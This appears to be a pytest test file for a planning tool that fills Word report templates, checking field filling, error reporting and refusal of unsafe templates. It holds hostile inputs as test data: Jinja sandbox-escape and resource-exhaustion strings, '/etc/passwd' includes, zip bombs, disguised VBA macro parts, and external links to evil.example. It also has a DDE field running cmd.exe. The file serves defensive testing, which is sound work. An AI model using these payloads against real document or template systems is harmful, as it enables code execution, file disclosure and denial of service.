"""A planner's own template: filled in with the fields there are, refused with the place where it is wrong."""

from __future__ import annotations

import hashlib
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import docx
import pandas as pd
import papertown
import pytest
from click.testing import CliRunner
from docx.oxml import OxmlElement
from test_documents import finished

from planning import report, runs
from planning.cli import main
from planning.errors import InputRefused
from planning.report import _fields, _scene, _template
from planning.study import StudyResult
from planning.tables import LEVELS

DOCS = Path(__file__).resolve().parent.parent / "docs"
PAGES = {name: (DOCS / name).read_text("utf-8") for name in ("template.md", "template.zh-CN.md")}


@pytest.fixture(scope="module")
def town() -> StudyResult:
    return finished()


def template(folder: Path, *lines: str, header: str = "") -> Path:
    paper = docx.Document()
    for line in lines:
        paper.add_paragraph(line)
    paper.sections[0].header.paragraphs[0].text = header
    paper.save(str(folder / "t.docx"))
    return folder / "t.docx"


def filled(path: Path, result: StudyResult) -> list[str]:
    packed = report.fill_template(path, result, run_id="run123")
    return [paragraph.text for paragraph in docx.Document(io.BytesIO(packed)).paragraphs]


def faults(path: Path, result: StudyResult) -> dict[str, Any]:
    """Return the faults by code, and hold that they are sentences in both languages."""
    with pytest.raises(InputRefused) as refused:
        report.fill_template(path, result)
    for fault in refused.value.faults:
        assert fault.message("zh")
        assert fault.remedy("en")
    return {fault.code: fault for fault in refused.value.faults}


# ------------------------------------------------------------------------------------------------------------- fields


def test_fields_are_printed_as_in_the_report(town: StudyResult, tmp_path: Path) -> None:
    path = template(
        tmp_path,
        "{{ plan.name }}|{{ run.id }}|{{ plan.as_of }}",
        "{{ coverage.street.elderly_covered }}/{{ coverage.street.elderly_total }}",
        "{{ compliance.shortfall_m2 }}",
        "{% for street in streets %}{{ street.name }}={{ street.coverage.street.elderly_total }};{% endfor %}",
        "{%p if numbers.compliance.fails %}",
        "有不达标",
        "{%p endif %}",
        header="{{ run.id }}",
    )
    lines = filled(path, town)
    figures = town.summary["coverage"]["street"]
    assert lines[0] == f"{town.inputs.plan.name}|run123|2025-12-31"
    assert lines[1] == f"{figures['elderly_covered']}/{figures['elderly_total']}"
    assert float(lines[2].replace(",", "")) == pytest.approx(town.summary["compliance"]["shortfall_m2"], abs=0.05)
    whole = [unit for unit in town.summary["units"] if unit["type"] in ("street", "town")]
    expected = "".join(f"{u['name']}={u['coverage']['street']['elderly_total']};" for u in whole)
    assert lines[3] == expected
    assert lines[4] == "有不达标"


def test_rows_of_a_table_are_repeated(town: StudyResult, tmp_path: Path) -> None:
    paper = docx.Document()
    made = paper.add_table(rows=3, cols=2)
    made.cell(0, 0).text = "{%tr for row in tables.facilities.rows %}"
    made.cell(1, 0).text, made.cell(1, 1).text = "{{ row.facility_id }}", "{{ row.name }}"
    made.cell(2, 0).text = "{%tr endfor %}"
    paper.save(str(tmp_path / "t.docx"))
    packed = report.fill_template(tmp_path / "t.docx", town)
    rows = [[cell.text for cell in row.cells] for row in docx.Document(io.BytesIO(packed)).tables[0].rows]
    there = town.facilities[town.facilities["status"] != "candidate"].sort_values("facility_id")
    assert [row[0] for row in rows] == there["facility_id"].tolist()


@pytest.mark.parametrize("language", ["zh", pytest.param("en", marks=pytest.mark.slow)])
def test_the_template_to_start_from_works_as_it_is(town: StudyResult, tmp_path: Path, language: Any) -> None:
    path = tmp_path / "t.docx"
    path.write_bytes(report.starter_template(language))
    assert report.check_template(path) == ()
    lines = filled(path, town)
    assert not [line for line in lines if "{" in line]
    assert any("评定" in line for line in lines)
    bare = replace(
        town, summary={key: value for key, value in town.summary.items() if key not in ("compliance", "siting")}
    )
    assert filled(path, bare)


# ------------------------------------------------------------------------------------------------------------ refusals


def test_every_field_that_is_not_there_is_named_with_the_nearest(town: StudyResult, tmp_path: Path) -> None:
    path = template(tmp_path, "{{ pln.name }} {{ coverge.street }}")
    with pytest.raises(InputRefused) as refused:
        report.fill_template(path, town)
    assert {fault.value: fault.facts["nearest"] for fault in refused.value.faults} == {
        "pln": "plan", "coverge": "coverage",
    }  # fmt: skip
    assert refused.value.faults == report.check_template(path)
    inner = template(tmp_path, "{{ plan.nam }}", "{{ coverage.street.elderly_shar }}")
    with pytest.raises(InputRefused) as refused:
        report.fill_template(inner, town)
    assert {fault.value: fault.facts["nearest"] for fault in refused.value.faults} == {
        "nam": "name", "elderly_shar": "elderly_share",
    }  # fmt: skip


def test_asking_whether_a_field_is_there_is_no_fault(town: StudyResult, tmp_path: Path) -> None:
    path = template(tmp_path, "{% if plan.stage is defined %}x{% else %}无{% endif %}{{ plan.stage|default('—') }}")
    assert filled(path, town)[0] == "无—"


@pytest.mark.parametrize(
    ("line", "paragraph"), [("{% for x in streets %}", 3), ("{{ plan.name }", 3), ("{% endfor %}", 3)]
)
def test_a_tag_that_does_not_parse_is_refused_with_its_paragraph(
    town: StudyResult, tmp_path: Path, line: str, paragraph: int
) -> None:
    path = template(tmp_path, "一", "二", line)
    found = faults(path, town)["template_syntax"]
    assert "Traceback" not in found.message()
    assert found.facts["paragraph"] >= paragraph
    assert report.check_template(path)[0].code == "template_syntax"


@pytest.mark.parametrize(
    "line",
    [
        "{{ ''.__class__.__mro__ }}",
        pytest.param("{{ plan.__class__ }}", marks=pytest.mark.slow),
        "{{ plan.__init__.__globals__ }}",
        "{{ plan.update({'a': 1}) }}",
        "{{ 'a' * 1000000000 }}",
        "{{ 10 ** 10 ** 10 }}",
        pytest.param("{{ '%s' % plan }}", marks=pytest.mark.slow),
        "{% include '/etc/passwd' %}",
        pytest.param("{% import '/etc/passwd' as x %}", marks=pytest.mark.slow),
        pytest.param("{% extends '/etc/passwd' %}", marks=pytest.mark.slow),
        "{{ range(1000000000) }}",
        pytest.param("{{ lipsum() }}", marks=pytest.mark.slow),
        pytest.param("{{ plan|attr('keys') }}", marks=pytest.mark.slow),
        "{{ plan.name|safe }}",
        "{{ 1 / 0 }}",
        pytest.param("{{ plan.name.ljust(1000000000) }}", marks=pytest.mark.slow),
        "{{ '{:>1000000000}'.format(plan.name) }}",
        pytest.param("{{ plan.name.upper() }}", marks=pytest.mark.slow),
        pytest.param("{% set a = 'xx' %}" + "{% set a = a ~ a %}" * 40 + "{{ a }}", marks=pytest.mark.slow),
        pytest.param("{% set a = 'xx' %}" + "{% set a = a + a %}" * 40 + "{{ a }}", marks=pytest.mark.slow),
        pytest.param(
            "{% set a = 'xx' %}" + "{% set a = a|replace('x', 'x' * 9) %}" * 40 + "{{ a }}", marks=pytest.mark.slow
        ),
        "{% set a = 'x|x'|replace('|', 'xxxxxxxxxx') %}" + "{% set a = a|replace('x', 'xxxxxxxxxx') %}" * 9,
        "{% set a = 'xx' %}" + "{% set a = a|join(a) %}" * 9 + "{{ a }}",
        pytest.param("{% set a = [1, 1] %}" + "{% set a = [a, a] %}" * 40 + "{{ a }}", marks=pytest.mark.slow),
        pytest.param(
            "{% set a %}xx{% endset %}" + "{% set a %}{{ a }}{{ a }}{% endset %}" * 40 + "{{ a }}",
            marks=pytest.mark.slow,
        ),
        pytest.param("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", marks=pytest.mark.slow),
        pytest.param("{% for a in 'xxxxxxxxxx' %}" * 9 + "y" + "{% endfor %}" * 9, marks=pytest.mark.slow),
        pytest.param("{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}", marks=pytest.mark.slow),
        "{{ plan.name|truncate(1) }}",
    ],
)
def test_a_template_cannot_reach_out(
    town: StudyResult, tmp_path: Path, line: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_template, "fields", lambda scene, picture: {"plan": {"name": "城"}})
    assert faults(template(tmp_path, line), town)


def test_names_are_letters_whatever_they_hold(town: StudyResult, tmp_path: Path) -> None:
    name = '{{ 7*7 }} {_{ x }_} <w:br/> & "q" {% if %}\x07'
    names = pd.Series(name, town.facilities.index, dtype="str")
    path = template(tmp_path, "{% for row in tables.facilities.rows %}{{ row.name }}¦{% endfor %}")
    shown = filled(path, replace(town, facilities=town.facilities.assign(name=names)))[0].split("¦")
    assert set(shown) == {name.replace("\x07", "�"), ""}


# ------------------------------------------------------------------------------------------------------------ odd files


def test_what_is_no_word_document_is_refused(town: StudyResult, tmp_path: Path) -> None:
    assert "template_not_found" in faults(tmp_path / "无.docx", town)
    for content in (b"", b"PK\x03\x04 broken", b"<html>", b"\xd0\xcf\x11\xe0" + bytes(600)):
        (tmp_path / "x.docx").write_bytes(content)
        assert "template_not_docx" in faults(tmp_path / "x.docx", town)


def repacked(path: Path, more: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path) as old:
        parts = {entry: old.read(entry) for entry in old.namelist()} | more
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for entry, content in parts.items():
            new.writestr(entry, content)
    return path


def test_bombs_macros_and_broken_parts_are_refused(town: StudyResult, tmp_path: Path) -> None:
    assert "zip_bomb" in faults(repacked(template(tmp_path, "一"), {"word/media/a.bin": bytes(200 << 20)}), town)
    assert "template_macros" in faults(repacked(template(tmp_path, "一"), {"word/vbaProject.bin": b"x"}), town)
    assert "template_not_docx" in faults(
        repacked(template(tmp_path, "一"), {"word/document.xml": b"<w:document"}), town
    )
    entities = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa">]><w>&a;</w>'
    assert faults(repacked(template(tmp_path, "一"), {"word/document.xml": entities}), town)


# --------------------------------------------------------------------------------------------------- run, command, page


def outside(paper: Any, kind: str, target: str) -> None:
    paper.part.relate_to(target, f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}", True)


def command(paper: Any, *pieces: str) -> None:
    for piece in pieces:
        field = OxmlElement("w:instrText")
        field.text = piece
        paper.add_paragraph().add_run()._r.append(field)


@pytest.mark.parametrize(
    ("reach", "harmful"),
    [
        (lambda paper: outside(paper, "image", "http://evil.example/x.png"), True),
        (lambda paper: outside(paper, "attachedTemplate", "http://evil.example/x.dotm"), True),
        (lambda paper: outside(paper, "oleObject", "file://server/x"), True),
        (lambda paper: command(paper, "DDE", 'AUTO c:\\\\cmd.exe "/k"'), True),
        (lambda paper: command(paper, 'INCLUDEPICTURE "http://evil.example/x.png"'), True),
        (lambda paper: outside(paper, "hyperlink", "https://www.gov.cn"), False),
        (lambda paper: outside(paper, "attachedTemplate", "file:///C:/Word/Normal.dotm"), False),
        (lambda paper: command(paper, ' HYPERLINK "https://x/hidden" '), False),
    ],
)
def test_a_template_that_would_fetch_or_start_something_is_refused(tmp_path: Path, reach: Any, harmful: bool) -> None:
    paper = docx.Document()
    paper.add_paragraph("{{ plan.name }}")
    reach(paper)
    paper.save(str(tmp_path / "t.docx"))
    assert [fault.code for fault in _template.check(tmp_path / "t.docx")] == ["template_outside"] * harmful


def stating(path: Path, *parts: str) -> Path:
    """Return a package whose list of parts states more of them."""
    with zipfile.ZipFile(path) as archive:
        listed = archive.read("[Content_Types].xml").decode().replace("</Types>", "".join(parts) + "</Types>")
    return repacked(path, {"[Content_Types].xml": listed.encode()})


VBA = "application/vnd.ms-office.vbaProject"


@pytest.mark.parametrize(
    "parts",
    [
        [f'<Override PartName="/word/m.dat" ContentType="{VBA}"/>'],
        [f'<Default Extension="bin" ContentType="{VBA.upper()}"/>'],
        ['<Override PartName="/word/m.dat" ContentType="application/vnd.ms-office.vba&#80;roject"/>'],
        ['<Override PartName="/w.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'],
    ],
)
def test_macros_are_known_by_what_a_part_is_and_not_by_its_name(tmp_path: Path, parts: list[str]) -> None:
    path = stating(template(tmp_path, "{{ plan.name }}"), *parts)
    assert [fault.code for fault in _template.check(path)] == ["template_macros"]


def test_macros_of_another_name_and_a_list_of_parts_that_is_broken_are_refused(tmp_path: Path) -> None:
    path = repacked(template(tmp_path, "{{ plan.name }}"), {"word/VBAPROJECT.xyz": b"x"})
    assert [fault.code for fault in _template.check(path)] == ["template_macros"]
    path = repacked(template(tmp_path, "{{ plan.name }}"), {"[Content_Types].xml": b"<Types"})
    assert [fault.code for fault in _template.check(path)] == ["template_not_docx"]


def test_a_name_that_no_file_can_have_is_not_there(tmp_path: Path) -> None:
    assert [fault.code for fault in _template.check(tmp_path / ("长" * 5000 + ".docx"))] == ["template_not_found"]


@pytest.mark.slow
def test_a_run_fills_the_template_in_and_lists_it(tmp_path: Path) -> None:
    plan = papertown.write(tmp_path, more='[output]\nmaps = []\ntemplate = "t.docx"\n')
    template(tmp_path, "{{ plan.name }}：{{ run.id }}")
    done = runs.run(plan, out=tmp_path / "out", only="report")
    names = {path.name for path in (tmp_path / "out").iterdir()}
    assert {"report.docx", "annex.docx", "report_template.docx", "tables.xlsx"} <= names
    paper = docx.Document(str(tmp_path / "out" / "report_template.docx"))
    assert paper.paragraphs[0].text.endswith(f"：{done.run_id}")
    assert runs.verify(tmp_path / "out") == ()
    listed = json.loads((tmp_path / "out" / "run.json").read_text("utf-8"))["inputs"]
    digest = hashlib.sha256((tmp_path / "t.docx").read_bytes()).hexdigest()
    assert {"input": "template", "path": "t.docx", "sha256": digest} in listed


def test_a_wrong_template_stops_the_run_before_it_begins(tmp_path: Path) -> None:
    plan = papertown.write(tmp_path, more='[output]\nmaps = []\ntemplate = "t.docx"\n')
    template(tmp_path, "{{ nothing }}")
    steps: list[str] = []
    with pytest.raises(InputRefused):
        runs.run(plan, out=tmp_path / "out", progress=steps.append)
    assert steps == ["read"]
    assert not (tmp_path / "out").exists()
    assert "template_field" in {fault.code for fault in runs.check(plan)[0]}


def test_the_command_writes_a_template_and_never_over_another(tmp_path: Path) -> None:
    path = tmp_path / "新" / "我院模板.docx"
    assert CliRunner().invoke(main, ["report-template", str(path)]).exit_code == 0
    assert report.check_template(path) == ()
    assert CliRunner().invoke(main, ["report-template", str(path)]).exit_code == 1
    assert CliRunner().invoke(main, ["report-template", str(tmp_path / "x.doc")]).exit_code == 1


def names_of(fields: dict[str, Any]) -> Iterator[str]:
    """Return every field as the page writes it."""
    for name, value in fields.items():
        if name == "coverage":
            yield from (f"coverage.<level>.{inner}" for inner in value[LEVELS[0]])
        elif name in ("streets", "blanks"):
            yield f"{name}[]"
        elif name == "text":
            yield from (f"text.{chapter}[]" for chapter in value)
        elif name == "numbers":
            yield name
        elif name != "tables":
            yield from (f"{name}.{inner}" for inner in value)


@pytest.mark.parametrize("page", PAGES)
def test_the_page_lists_every_field_and_every_column(town: StudyResult, page: str) -> None:
    found = _fields.fields(_scene.Scene(town, "zh", "r"), lambda png: png)
    rows = [re.split(r"(?<!\\)\|", line)[1:-1] for line in PAGES[page].splitlines() if line.startswith("| `")]
    told = [re.findall("`([^`]+)`", row[0])[0] for row in rows if len(row) == 2]
    assert told == list(dict.fromkeys(told))
    assert set(told) == set(names_of(found))
    assert set(found) == set(_fields.ROOTS)
    columns = {re.findall("`([^`]+)`", row[0])[0]: re.findall("`([^`]+)`", row[2]) for row in rows if len(row) == 3}
    assert columns == {f"tables.{name}": list(table["head"]) for name, table in found["tables"].items()}


def test_both_pages_say_the_same() -> None:
    english, chinese = PAGES["template.md"], PAGES["template.zh-CN.md"]
    assert re.findall("```.*?```", english, re.DOTALL) == re.findall("```.*?```", chinese, re.DOTALL)
    assert [len(marks) for marks in re.findall("^(#+) ", english, re.M)] == [
        len(marks) for marks in re.findall("^(#+) ", chinese, re.M)
    ]
    first = [re.findall(r"^\| (`[^`]+`)", page, re.M) for page in (english, chinese)]
    assert first[0] == first[1]
